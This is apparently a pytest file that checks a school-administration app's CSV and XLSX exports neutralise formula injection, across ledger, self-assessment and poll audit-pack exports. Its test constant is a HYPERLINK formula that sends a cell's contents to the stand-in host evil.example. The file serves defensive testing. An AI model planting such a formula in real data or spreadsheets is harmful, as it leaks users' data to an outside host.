"""Every export writes a cell that starts with = + - @ tab or CR as text, never as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from tests.builders.congress import Hall
from tests.conftest import SchoolKit
from tuanxue.charter.assessment import assess
from tuanxue.charter.documents import build as documents
from tuanxue.congress.polls import ballots, decisions
from tuanxue.core.documents.exports import csv_cell, csv_writer, is_risky, xlsx_append
from tuanxue.ledger.export import assessment_workbook
from tuanxue.org.models import Student

EVIL = '=HYPERLINK("http://evil.example/?"&A3,"查看")'


@pytest.mark.parametrize(
    ("value", "risky"),
    [
        (EVIL, True),
        ("+86 138", True),
        ("-1+2", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("王甲", False),
        ("A=1", False),
        (-5, False),
        (3.5, False),
        (None, False),
    ],
)
def test_what_is_risky(value, risky):
    assert is_risky(value) is risky
    assert csv_cell(value) == ("'" + value if risky else value)


def _formula_free(book) -> list:
    """Every cell holding the evil text, after checking none is a formula."""
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and "evil.example" in cell.value:
                    found.append(cell)
    return found


def test_xlsx_helper_keeps_the_text_and_its_type():
    book = openpyxl.Workbook()
    xlsx_append(book.active, [EVIL, 12, "-3", "plain"])
    out = io.BytesIO()
    book.save(out)
    again = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = next(again.active.iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [
        (EVIL, "s"),
        (12, "n"),
        ("-3", "s"),
        ("plain", "s"),
    ]


def test_csv_helper_prefixes_risky_text():
    out = io.StringIO()
    csv_writer(out).writerow([EVIL, "ok", 7])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + EVIL, "ok", "7"]


def test_ledger_export_writes_a_formula_name_as_text(kit):
    student = kit.student(name=EVIL)
    data = assessment_workbook(Student.objects.filter(pk=student.pk), title="第二课堂")
    cells = _formula_free(openpyxl.load_workbook(io.BytesIO(data)))
    assert [(c.value, c.data_type) for c in cells] == [(EVIL, "s")]


def test_self_assessment_table_writes_a_formula_school_name_as_text(db):
    kit = SchoolKit(code="evl", name=EVIL)
    report = assess(kit.school, dt.date(2020, 10, 15))
    cells = _formula_free(openpyxl.load_workbook(io.BytesIO(documents.xlsx_bytes(report))))
    assert cells and all(c.data_type == "s" and c.value.startswith("=") for c in cells)


def test_audit_pack_writes_a_formula_name_as_text(client, kit):
    hall = Hall(kit, 3)
    hall.delegates[0].student.name = EVIL
    hall.delegates[0].student.save(update_fields=["name"])
    poll = hall.election([EVIL, "李乙"], 1, write_in=True)
    ballots.ballot_cast(actor=hall.user(0), poll=poll, choice={"marks": [], "write_in": "=1+1"})
    decisions.poll_close(actor=hall.league, poll=poll)
    client.force_login(hall.league)
    pack = client.get(reverse("polls:audit_pack", args=[kit.school.code, poll.pk]))
    z = zipfile.ZipFile(io.BytesIO(pack.content))
    for name in z.namelist():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(z.read(name).decode())):
            for value in row:
                assert not is_risky(value), (name, value)
    voters = z.read("voters.csv").decode()
    assert "'" + EVIL.replace('"', '""') in voters


def test_an_imported_formula_name_stays_text_in_the_ledger_export(kit, tmp_path):
    from tests.builders.org import STUDENT_HEADERS, run_import, student_row, write_csv

    path = write_csv(tmp_path / "名单.csv", STUDENT_HEADERS, [student_row(1, name=EVIL)])
    outcome = run_import(kit.school, "students", path)
    assert outcome.plan.ok, outcome.plan.errors
    student = Student.objects.get(school=kit.school, name=EVIL)
    data = assessment_workbook(Student.objects.filter(pk=student.pk), title="第二课堂")
    cells = _formula_free(openpyxl.load_workbook(io.BytesIO(data)))
    assert [(c.value, c.data_type) for c in cells] == [(EVIL, "s")]
